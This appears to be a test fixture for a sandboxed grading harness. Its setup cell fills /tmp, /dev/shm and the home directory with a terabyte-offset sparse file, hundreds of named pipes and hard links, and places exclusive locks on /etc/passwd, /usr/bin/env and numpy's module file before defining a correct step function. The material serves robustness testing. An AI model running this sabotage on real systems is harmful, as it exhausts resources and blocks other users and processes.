# Sparse files, hard links, named pipes, and a lock on everything; the answer is right.
# expect: step 1
# %% start
import fcntl
import os

for place in ("/tmp", "/dev/shm", os.environ["HOME"]):
    try:
        with open(f"{place}/sparse", "wb") as file:
            file.seek(2**40)
            file.write(b"x")
    except OSError:
        pass
    for number in range(500):
        try:
            os.mkfifo(f"{place}/pipe{number}")
            os.link(f"{place}/pipe0", f"{place}/link{number}")
        except OSError:
            pass
for path in ("/usr/bin/env", "/etc/passwd", np.__file__):
    try:
        fcntl.flock(open(path), fcntl.LOCK_EX)
    except OSError:
        pass

# %% step
def step(z):
    return np.where(z >= 0, 1.0, 0.0)
